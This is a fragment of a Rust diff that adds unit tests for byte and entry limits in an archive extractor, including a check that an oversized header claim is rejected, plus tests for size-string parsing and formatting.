+        let s = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/a", b"12345"), (b'F', 0o644, "d/b", b"123456")]);
+        let err = all(&s, "d", Limits { max_bytes: 10, max_entries: 100 }).unwrap_err();
+        assert!(err.to_string().contains("--max-bytes") && err.to_string().contains("d/b"), "{err}");
+        all(&s, "d", Limits { max_bytes: 11, max_entries: 100 }).unwrap();
+        let err = all(&s, "d", Limits { max_bytes: 100, max_entries: 2 }).unwrap_err();
+        assert!(err.to_string().contains("more than 2 entries"), "{err}");
+        // The size a header claims counts, before any data arrives.
+        let mut v = MAGIC.to_vec();
+        v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 1, b'f']);
+        v.extend_from_slice(&(1u64 << 40).to_be_bytes());
+        assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("over the cap"));
+    }
+
+    #[test]
+    fn sizes_parse_and_print() {
+        assert_eq!(parse_max_bytes("4GiB").unwrap(), 4 << 30);
+        assert_eq!(parse_max_bytes("512M").unwrap(), 512 << 20);
+        assert_eq!(parse_max_bytes("1t").unwrap(), 1 << 40);
+        assert_eq!(parse_max_bytes("100").unwrap(), 100);
+        for bad in ["", "0", "x", "1.5G", "1Q", "99999999999999999999", "-1"] {
+            assert!(parse_max_bytes(bad).is_err(), "{bad}");
+        }
+        assert_eq!(human(1 << 30), "1.0 GiB");
+        assert_eq!(human(12), "12 B");
     }
 }
